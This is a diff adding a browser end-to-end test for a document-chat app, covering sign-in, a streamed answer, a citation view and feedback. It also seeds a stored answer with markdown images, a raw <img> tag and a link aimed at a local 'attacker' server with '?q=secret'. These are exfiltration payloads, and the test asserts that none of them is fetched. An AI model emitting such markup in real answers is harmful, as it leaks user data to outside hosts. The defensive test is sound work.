@@ -1,0 +1,146 @@
+"""A reader in headless Chromium: sign in, ask, watch tokens stream, open a citation, and never fetch an injected image.
+
+Screenshots go to test-artifacts/screenshots/.
+"""
+
+from __future__ import annotations
+
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from playwright.sync_api import sync_playwright
+
+from chat.models import ChatSession, Query, Response
+from docintel import localservers
+from tests.conftest import REPO
+from tests.e2e.conftest import PASSAGES, QUESTION
+
+pytestmark = [pytest.mark.slow, pytest.mark.e2e, pytest.mark.django_db(transaction=True)]
+
+SCREENSHOTS = REPO / "test-artifacts" / "screenshots"
+CHROMIUM_ARGS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+
+
+class _Evil(BaseHTTPRequestHandler):
+    hits: list[str] = []
+
+    def do_GET(self):
+        _Evil.hits.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.end_headers()
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture
+def evil_server():
+    """A local "attacker" server: every request it receives is counted."""
+    _Evil.hits = []
+    server = ThreadingHTTPServer(("127.0.0.1", localservers.free_port()), _Evil)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+def _injected_session(reader, evil: str) -> ChatSession:
+    session = ChatSession.objects.create(user=reader, title="Injected")
+    query = Query.objects.create(user=reader, session=session, text="Summarise the memo")
+    Response.objects.create(
+        query=query,
+        status="completed",
+        text=(
+            f"Here you go ![]({evil}/md-image?q=secret) and ![logo]({evil}/md-image-2)\n\n"
+            f'<img src="{evil}/raw-html-image"> [click here]({evil}/link?q=secret)\n\n'
+            "- **bold** item with `code`"
+        ),
+    )
+    return session
+
+
+def test_reader_asks_sees_stream_opens_citation_and_injected_image_is_not_fetched(
+    indexed, live_daphne, reader, evil_server
+):
+    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+    doc, _ = indexed
+    injected = _injected_session(reader, evil_server)
+    base = live_daphne.http
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", headless=True, args=CHROMIUM_ARGS)
+        context = browser.new_context(viewport={"width": 1200, "height": 900}, locale="en-US")
+        page = context.new_page()
+        try:
+            page.goto(f"{base}/accounts/login/")
+            page.fill("#id_username", "reader@example.com")
+            page.fill("#id_password", "pw-reader-1")
+            page.click("button[type=submit]")
+            page.wait_for_url(f"{base}/chat/")
+            page.click("#new-session")
+            page.wait_for_url(f"{base}/chat/*/")
+            page.wait_for_function("() => document.getElementById('connection').textContent === ''")
+
+            page.fill("#question", QUESTION)
+            page.click("#send")
+            # Tokens appear while the answer is still streaming (the stop button is shown meanwhile).
+            page.wait_for_function(
+                "() => { const md = document.querySelector('#exchanges .answer.status-streaming .md');"
+                " return md && md.textContent.trim().length > 0; }",
+                timeout=60_000,
+            )
+            assert page.is_visible("#stop")
+            page.screenshot(path=str(SCREENSHOTS / "chat-streaming.png"))
+            page.wait_for_selector("#exchanges .answer.status-completed .citations .chip", timeout=90_000)
+            assert page.is_hidden("#stop")
+            assert page.locator("#exchanges .answer.status-completed form.feedback").count() == 1
+            page.screenshot(path=str(SCREENSHOTS / "chat-answer.png"), full_page=True)
+
+            chip = page.locator("#exchanges .answer.status-completed .citations .chip").first
+            assert (chip.get_attribute("href") or "").startswith(f"/documents/{doc.pk}/source/?chunk=")
+            with context.expect_page() as opened:
+                chip.click()
+            source = opened.value
+            source.wait_for_load_state()
+            cited = source.locator("mark#cited")
+            cited.wait_for()
+            assert cited.inner_text().strip() in PASSAGES
+            assert cited.is_visible()
+            assert source.title().startswith("Kestrel reservoir facts")
+            source.screenshot(path=str(SCREENSHOTS / "source-view.png"), full_page=True)
+
+            # Thumbs up with a comment on the streamed answer.
+            page.fill("#exchanges .answer.status-completed form.feedback input[name=comment]", "precise")
+            page.click("#exchanges .answer.status-completed form.feedback button[value='1']")
+            page.wait_for_selector("#exchanges .answer.status-completed .thumb.chosen")
+
+            # The injected answer renders as text: no <img>, no outbound link, and not one request to the server.
+            page.goto(f"{base}/chat/{injected.pk}/")
+            page.wait_for_function("() => document.querySelectorAll('#exchanges .answer .blocked').length === 3")
+            assert page.locator("#exchanges .answer img").count() == 0
+            assert f'<img src="{evil_server}/raw-html-image">' in page.locator("#exchanges .answer .md").inner_text()
+            assert page.locator(f"#exchanges .answer a[href^='{evil_server}']").count() == 0
+            assert page.locator("#exchanges .answer strong").inner_text() == "bold"
+            page.wait_for_load_state("networkidle")
+            page.screenshot(path=str(SCREENSHOTS / "chat-injection-blocked.png"), full_page=True)
+
+            # Phone width, Greek interface.
+            page.set_viewport_size({"width": 375, "height": 740})
+            page.select_option("select[name=language]", "el")
+            page.wait_for_selector("text=Αποστολή")
+            page.screenshot(path=str(SCREENSHOTS / "chat-phone-el.png"), full_page=True)
+        finally:
+            context.close()
+            browser.close()
+    assert _Evil.hits == []
+    feedback = Response.objects.get(query__session__user=reader, query__text=QUESTION).feedback.get()
+    assert (feedback.rating, feedback.comment) == (1, "precise")
